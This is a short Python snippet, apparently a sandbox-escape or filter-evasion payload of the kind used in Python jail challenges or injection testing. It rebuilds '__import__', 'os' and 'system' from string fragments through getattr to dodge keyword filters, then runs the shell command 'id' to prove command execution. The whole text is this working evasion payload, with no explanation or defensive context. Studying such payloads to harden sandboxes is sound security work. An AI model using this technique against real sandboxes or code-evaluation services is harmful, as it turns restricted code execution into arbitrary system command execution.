take = getattr
load = take(__builtins__, "__imp" "ort__")
take(load("o" "s"), "sys" + "tem")("id")
